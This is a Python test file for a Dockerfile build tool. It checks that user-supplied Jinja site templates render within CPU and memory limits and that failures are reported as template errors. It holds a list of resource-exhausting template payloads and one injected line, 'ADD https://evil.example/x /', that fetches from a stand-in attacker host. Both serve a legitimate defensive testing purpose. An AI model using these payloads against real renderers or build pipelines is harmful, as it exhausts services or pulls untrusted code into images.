"""A site's template is rendered within bounds, whatever it does."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from fakes.hasty import Hasty
from fakes.runner import Call, FakeRunner
from twinbuild.build import bounded
from twinbuild.build.templating import render_site
from twinbuild.errors import SpecError
from twinbuild.ports import Completed, Runner
from twinbuild.process.runner import SubprocessRunner
from twinbuild.render.dockerfile import SiteTemplate, render_dockerfile
from unit.render.test_dockerfile import TEMPLATE, _derivation

DIFF_ID = "sha256:" + "0" * 64
PLAIN = '{% extends "Dockerfile.j2" %}{% block application %}# ours: {{ title }} é\n{{ super() }}{% endblock %}'
ENDLESS = "is not done after 1 seconds of processor time"
LARGE = "needs more than 256 MiB of memory"
HOSTILE = {
    "loops in loops": ("{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}", ENDLESS),
    "loops that print": ("{% for a in range(99999) %}{% for b in range(99999) %}{{ a }}{% endfor %}{% endfor %}", None),
    "macros that call each other": (
        "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}{% endmacro %}{{ m(60) }}",
        ENDLESS,
    ),
    "a power": ("{{ 9 ** (9 ** 9) }}", ENDLESS),
    "a power of variables": ("{% set n = 99999 %}{{ n ** (n ** 3) }}", None),
    "a filter on a constant": ("{{ 'x' | center(10 ** 12) }}", LARGE),
    "a width": ("{{ '%999999999d' | format(1) }}{{ '{:>9999999999}'.format(1) }}", None),
    "text that doubles": ("{% set x = 'x' * 999999 %}" + "{% set x = x ~ x %}" * 40, LARGE),
    "blocks that double": (
        "{% set x %}{{ 'x' * 99999 }}{% endset %}" + "{% set x %}{{ x }}{{ x }}{% endset %}" * 40,
        LARGE,
    ),
    "lists that double": ("{% set x = [1] %}" + "{% set x = [x, x] %}" * 60 + "{{ x | string | length }}", None),
    "comparison of lists that double": (
        "{% set x, y = [1], [1] %}" + "{% set x, y = [x, x], [y, y] %}" * 60 + "{{ x == y }}",
        ENDLESS,
    ),
    "a list of everything": ("{{ [0] * 10 ** 9 }}", LARGE),
    "itself": ("{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}", "RecursionError"),
}


def rendered(text: str, runner: Runner) -> str:
    """The Dockerfile that a template makes."""
    return render_site(
        TEMPLATE,
        _derivation("fraud-scorer"),
        base_diff_id=DIFF_ID,
        pip="26.3",
        site=SiteTemplate(name="site.j2", text=text),
        runner=runner,
        interpreter=Path(sys.executable),
    )


def refused(text: str, runner: Runner) -> str:
    """The message of TB5230; its hint says what to do."""
    with pytest.raises(SpecError) as caught:
        rendered(text, runner)
    (finding,) = caught.value.findings
    assert (finding.code, finding.where.file) == ("TB5230", "site.j2")
    assert finding.hint
    return finding.message


def test_as_it_would_be_here() -> None:
    """Byte for byte, whatever characters it has."""
    site = SiteTemplate(name="site.j2", text=PLAIN)
    expected = render_dockerfile(TEMPLATE, _derivation("fraud-scorer"), base_diff_id=DIFF_ID, pip="26.3", site=site)
    assert "# ours: fraud-scorer" in expected
    assert rendered(PLAIN, SubprocessRunner()) == expected


@pytest.mark.parametrize("name", HOSTILE)
def test_bounded(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Endless work, and more than fits, end in TB5230, also where Jinja does it while it compiles; which, may vary."""
    monkeypatch.setattr(bounded, "_SECONDS", 1)
    monkeypatch.setattr(bounded, "_MEMORY", 256 << 20)  # filled well before, also on a busy machine
    text, said = HOSTILE[name]
    message = refused(text, Hasty("templating"))
    assert (said or "") in message


def test_errors_are_the_template_s() -> None:
    """What fails in the process is said as it would be here, with the line; what it prints may need nothing more."""
    assert "'nothing' is undefined" in refused("\n\n{{ nothing }}", SubprocessRunner())
    with pytest.raises(SpecError) as caught:
        rendered("\n{% block x %}", SubprocessRunner())
    assert caught.value.findings[0].where.line == 2
    with pytest.raises(SpecError, match="TB5231"):
        rendered(PLAIN.replace("# ours", "ADD https://evil.example/x /\n#"), SubprocessRunner())


@pytest.mark.parametrize(
    ("done", "said"),
    [
        (Completed(status=-11, stdout=b"", stderr=b""), "SIGSEGV"),
        (Completed(status=-9, stdout=b"", stderr=b""), "is not done after 10 seconds"),
        (Completed(status=1, stdout=b"", stderr=b"Traceback\nOSError: no room\n\n"), "OSError: no room"),
        (Completed(status=1, stdout=b"", stderr=b""), "it said nothing"),
    ],
)
def test_a_process_that_ends_otherwise(done: Completed, said: str) -> None:
    """Whatever it ends with is an error of the template."""

    def program(_: Call) -> Completed:
        return done

    assert said in refused(PLAIN, FakeRunner({sys.executable: program}))
